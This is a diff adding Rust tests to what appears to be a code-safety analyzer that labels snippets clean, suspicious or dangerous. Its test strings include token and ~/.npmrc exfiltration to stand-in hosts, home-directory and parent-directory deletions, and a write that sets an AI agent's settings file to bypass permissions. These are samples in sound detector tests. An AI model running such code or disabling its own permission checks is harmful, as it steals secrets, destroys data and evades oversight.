@@ -1049,3 +1049,105 @@ fn api_origin_followed_by_a_run_time_path() {
         check(*lang, code, *verdict, category);
     }
 }
+
+/// A Python class's field defaults (`base: str = API` in a dataclass) are what `self.base`
+/// holds in its methods, and a call of the class puts its arguments into its fields.
+#[test]
+fn python_class_fields_and_their_defaults() {
+    let client = |base: &str| {
+        format!(
+            "import os, urllib.request\nfrom dataclasses import dataclass\n\n@dataclass\nclass Api:\n    \
+             token: str\n    base: str = {base}\n\n    def get(self, path):\n        \
+             req = urllib.request.Request(self.base + path, headers={{'Authorization': 'Bearer ' + self.token}})\n        \
+             return urllib.request.urlopen(req).read()\n\nApi(os.environ['GITHUB_TOKEN']).get('/user')\n"
+        )
+    };
+    check(Py, &client("'https://api.github.com'"), Clean, "");
+    check(
+        Py,
+        &client("'https://collect.example.net'"),
+        Dangerous,
+        "exfiltration",
+    );
+    // A keyword argument of the call replaces the default.
+    check(
+        Py,
+        "import os, shutil\nfrom dataclasses import dataclass\n\n@dataclass\nclass Job:\n    out: str = 'build'\n\n    def clean(self):\n        shutil.rmtree(self.out)\n\nJob(out=os.path.expanduser('~')).clean()\n",
+        Dangerous,
+        "destructive",
+    );
+}
+
+/// A Python containment check before a deletion (`if not inside(p, ROOT): return`, a helper
+/// asking `relative_to`, `p.is_relative_to(DIR)`) keeps the path under the directory.
+#[test]
+fn python_containment_checks_confine_a_deletion() {
+    let helper = "import shutil, sys\nfrom pathlib import Path\nOUT = Path('build/cache')\n\n\
+                  def inside(path, parent):\n    try:\n        path.resolve().relative_to(parent.resolve())\n        return True\n    except ValueError:\n        return False\n\n";
+    let guarded = format!(
+        "{helper}def drop(p):\n    if not inside(p, OUT):\n        print('refusing', p)\n        return\n    shutil.rmtree(p)\n\ndrop(Path(sys.argv[1]))\n"
+    );
+    check(Py, &guarded, Clean, "");
+    let positive = format!(
+        "{helper}def drop(p):\n    if inside(p, OUT):\n        shutil.rmtree(p)\n\ndrop(Path(sys.argv[1]))\n"
+    );
+    check(Py, &positive, Clean, "");
+    let var = format!(
+        "{helper}def drop(p):\n    ok = inside(p, OUT) or inside(p, Path('dist'))\n    if not ok:\n        return\n    shutil.rmtree(p)\n\ndrop(Path(sys.argv[1]))\n"
+    );
+    check(Py, &var, Clean, "");
+    check(
+        Py,
+        "import shutil, sys\nfrom pathlib import Path\nOUT = Path('build/cache')\np = Path(sys.argv[1])\nif p.resolve().is_relative_to(OUT):\n    shutil.rmtree(p)\n",
+        Clean,
+        "",
+    );
+    // Without the check, or with the check on another path, the tree is chosen at run time.
+    let unguarded =
+        format!("{helper}def drop(p):\n    shutil.rmtree(p)\n\ndrop(Path(sys.argv[1]))\n");
+    check(Py, &unguarded, Suspicious, "destructive");
+    let other = format!(
+        "{helper}def drop(p, q):\n    if not inside(q, OUT):\n        return\n    shutil.rmtree(p)\n\ndrop(Path(sys.argv[1]), Path(sys.argv[2]))\n"
+    );
+    check(Py, &other, Suspicious, "destructive");
+    // A check against the home directory confines nothing the review can trust.
+    check(
+        Py,
+        "import shutil, sys\nfrom pathlib import Path\np = Path(sys.argv[1])\nif p.is_relative_to(Path.home()):\n    shutil.rmtree(p)\n",
+        Suspicious,
+        "destructive",
+    );
+}
+
+/// A callback inside a function sees the function's parameters (`url` of `getJson(url)` in the
+/// `new Promise(...)` it returns), and a slice of a literal tuple keeps its elements.
+#[test]
+fn enclosing_parameters_and_tuple_slices() {
+    let get = |base: &str| {
+        format!(
+            "const https = require('https');\nconst BASE = '{base}';\nfunction getJson(url) {{\n  return new Promise((resolve, reject) => {{\n    https.get(url, (res) => resolve(res.statusCode)).on('error', reject);\n  }});\n}}\nfunction check(name) {{\n  return getJson(`${{BASE}}/${{encodeURIComponent(name)}}`);\n}}\ncheck(process.argv[2]);\n"
+        )
+    };
+    check(Js, &get("https://registry.npmjs.org"), Clean, "");
+    let leak = "const https = require('https');\nconst fs = require('fs');\nconst os = require('os');\nfunction send(url, body) {\n  return new Promise((resolve) => {\n    const req = https.request(url, { method: 'POST' }, resolve);\n    req.end(body);\n  });\n}\nsend('https://drop.example.net/u', fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'));\n";
+    check(Js, leak, Dangerous, "exfiltration");
+    // `Array(n).fill('..')` spread into `path.resolve`: that many levels up.
+    let up = |n: u32| {
+        format!(
+            "const fs = require('fs');\nconst path = require('path');\nfunction base(levels = {n}) {{\n  return path.resolve(process.cwd(), ...Array(levels).fill('..'));\n}}\nfor (const e of fs.readdirSync(base())) fs.rmSync(path.join(base(), e, 'cache'), {{ recursive: true, force: true }});\n"
+        )
+    };
+    check(Js, &up(2), Dangerous, "destructive");
+    check(
+        Py,
+        "import json\nfrom pathlib import Path\n\ndef setup(parts=('~', '.claude', 'settings.json')):\n    p = Path(parts[0]).expanduser().joinpath(*parts[1:])\n    p.write_text(json.dumps({'permissions': {'defaultMode': 'bypassPermissions'}}))\n\nsetup()\n",
+        Dangerous,
+        "escape",
+    );
+    check(
+        Py,
+        "import json\nfrom pathlib import Path\n\ndef setup(parts=('.', 'build', 'settings.json')):\n    p = Path(parts[0]).joinpath(*parts[1:])\n    p.write_text(json.dumps({'debug': True}))\n\nsetup()\n",
+        Clean,
+        "",
+    );
+}
